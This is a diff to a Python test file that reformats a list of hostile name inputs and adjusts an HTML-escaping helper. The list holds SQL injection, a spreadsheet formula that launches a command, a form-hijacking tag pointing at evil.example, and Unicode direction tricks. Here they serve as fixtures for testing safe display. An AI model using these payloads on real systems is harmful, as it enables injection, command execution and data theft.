@@ -42,8 +42,9 @@ HOSTILE = [
     "x" * 5000, "'; drop table contacts; --", "\\u003cscript\\u003e", "\u2028x", "\ufeffx",
     "%3Cb%3E", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "'=1+1",
     "\N{MAN}\u200d\N{WOMAN}\u200d\N{GIRL}\ufe0f", "a\u200b\u200c\u2060\u00adb", "\u061c\u2067x",
-    "\u202e<b>x</b>\u202c", "e\u0301" * 150, "\ufdfd" * 20, "W" * 290, "\U000e0041\U000e0062", "\x9b31m\x85", "=cmd|' /C calc'!A0", "<bdo dir=rtl>x",
-    "</form><form action=//evil.example>", '" name="contact" value="1',
+    "\u202e<b>x</b>\u202c", "e\u0301" * 150, "\ufdfd" * 20, "W" * 290, "\U000e0041\U000e0062",
+    "\x9b31m\x85", "=cmd|' /C calc'!A0", "<bdo dir=rtl>x", "</form><form action=//evil.example>",
+    '" name="contact" value="1',
 ]  # fmt: skip
 
 
@@ -285,8 +286,10 @@ def make_hostile(path: Path) -> Path:
 
 
 def shown(name: str) -> str:
-    """A name as the page writes it."""
-    return escape(name[:100].translate({code: 0x2400 + code for code in range(0x20)}), quote=True)
+    """A name as the page writes it, without the space around it."""
+    return escape(
+        name[:100].strip().translate({code: 0x2400 + code for code in range(0x20)}), quote=True
+    )
 
 
 def test_hostile_names_are_text_everywhere(tmp_path: Path) -> None:
